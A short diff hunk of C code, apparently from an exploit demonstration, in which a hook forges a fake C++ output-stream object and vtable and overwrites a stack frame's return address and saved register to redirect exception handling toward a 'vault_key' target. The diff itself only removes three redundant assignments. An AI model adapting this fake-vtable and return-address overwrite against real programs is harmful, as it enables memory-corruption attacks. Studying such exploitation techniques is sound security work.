@@ -131,13 +131,10 @@ static __attribute__((noinline)) void hook(void) {
   if (!attack)
     return;
   /* basic_ios at this + *(vptr - 24); its _M_streambuf_state at + 0x20 */
-  fake_vt[3] = 0;
   fake_os[0] = (uintptr_t)&fake_vt[3];
   fake_vt[0] = (uintptr_t)(vault_key + 11 - 0x20) - (uintptr_t)fake_os;
-  fake_os[0] = (uintptr_t)&fake_vt[3];
   calm_vt[0] = 0; /* its basic_ios is itself: flags 0, no unitbuf */
   calm_os[0] = (uintptr_t)&calm_vt[3];
-  calm_vt[3] = 0;
   uintptr_t *fp = (uintptr_t *)d1_fp;
   fp[1] = site;                   /* d1's return address */
   fp[-1] = (uintptr_t)fake_os;    /* d1's saved rbx: rbx at the catch */
